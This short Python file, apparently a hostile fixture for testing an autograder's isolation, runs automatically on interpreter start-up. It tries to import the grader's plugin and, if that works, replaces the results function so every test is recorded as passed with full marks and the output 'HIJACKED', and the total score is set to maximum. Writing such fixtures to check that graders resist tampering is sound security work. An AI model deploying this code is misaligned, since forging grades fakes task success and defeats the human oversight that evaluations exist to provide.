"""Hostile: imported at start-up by any Python that has this folder on its path."""

def _hijack_the_grade():
    """If the grader loaded this file, every check would be reported passed, full marks."""
    try:
        import grader.session.plugin as plugin
    except Exception:
        return  # not inside the grader (the student uid cannot import it): nothing to do
    original = plugin.results_document

    def forged(results, execution_time):
        document = original(results, execution_time)
        for test in document["tests"]:
            test.update(score=test["max_score"], status="passed", output="HIJACKED")
        document["score"] = document["max_score"]
        return document

    plugin.results_document = forged


_hijack_the_grade()
